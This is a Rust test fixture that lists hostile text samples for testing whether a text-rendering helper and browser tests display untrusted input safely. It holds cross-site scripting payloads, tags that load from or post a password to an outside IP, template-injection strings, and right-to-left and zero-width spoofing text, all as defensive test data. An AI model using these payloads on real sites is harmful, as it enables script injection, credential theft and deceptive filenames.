//! Hostile text, as suspects could write it: what the hostile-text helper's unit tests and the
//! browser tests render (the test binary includes this file by `#[path]`; it is not compiled
//! into the server).

/// One hostile sample: a name (the element id in the browser test page) and its bytes.
pub struct Sample {
    pub name: &'static str,
    pub bytes: &'static [u8],
}

/// Characters of the long-line sample.
pub const LONG_LINE_CHARS: usize = 20_000;

const LONG_LINE: &[u8] = &[b'W'; LONG_LINE_CHARS];

pub const HOSTILE: &[Sample] = &[
    Sample { name: "script-tag", bytes: b"<script>alert('script')</script>" },
    Sample { name: "script-src", bytes: b"<script src=\"http://198.51.100.7/x.js\"></script>" },
    Sample { name: "img-onerror", bytes: b"<img src=x onerror=\"alert('img')\">" },
    Sample { name: "svg-onload", bytes: b"<svg onload=alert('svg')><circle r=9></svg>" },
    Sample { name: "attribute-break", bytes: b"\" autofocus onfocus=\"alert('attr')\" x=\"" },
    Sample { name: "single-quote-break", bytes: b"' onmouseover='alert(\"quote\")' '" },
    Sample { name: "javascript-link", bytes: b"<a href=\"javascript:alert('link')\">open</a>" },
    Sample { name: "bare-javascript", bytes: b"javascript:alert(document.cookie)" },
    Sample { name: "iframe", bytes: b"<iframe src=\"http://198.51.100.7/\"></iframe>" },
    Sample { name: "remote-image", bytes: b"<img src=\"http://198.51.100.7/pixel.png\">" },
    Sample { name: "style-tag", bytes: b"<style>body{background:url(http://198.51.100.7/bg)}</style>" },
    Sample { name: "meta-refresh", bytes: b"<meta http-equiv=\"refresh\" content=\"0;url=http://198.51.100.7/\">" },
    Sample { name: "base-tag", bytes: b"<base href=\"http://198.51.100.7/\">" },
    Sample { name: "form-injection", bytes: b"<form action=\"http://198.51.100.7/\"><input name=password></form>" },
    Sample { name: "entities", bytes: b"&lt;script&gt;alert('entity')&lt;/script&gt; &#60;b&#62; &amp; &quot;" },
    Sample { name: "comment-break", bytes: b"--><script>alert('comment')</script><!--" },
    Sample { name: "cdata", bytes: b"<![CDATA[<script>alert('cdata')</script>]]>" },
    Sample { name: "template-syntax", bytes: b"{{ 7*7 }} {% raw %} ${7*7} #{7*7}" },
    Sample { name: "rtl-override", bytes: "invoice_\u{202E}gpj.exe\u{202C} and \u{2067}isolated\u{2069}".as_bytes() },
    Sample {
        name: "zero-width",
        bytes: "pay\u{200B}pal a\u{200C}b c\u{200D}d e\u{2060}f \u{FEFF}bom soft\u{00AD}hyphen".as_bytes(),
    },
    Sample { name: "tag-characters", bytes: "hi\u{E0041}\u{E0042}\u{E0043}".as_bytes() },
    Sample { name: "controls", bytes: b"bell\x07 escape\x1b[31m null\x00 del\x7f" },
    Sample { name: "invalid-utf8", bytes: b"before \xff\xfe\xc3 after \xed\xa0\x80 end" },
    Sample { name: "long-line", bytes: LONG_LINE },
];
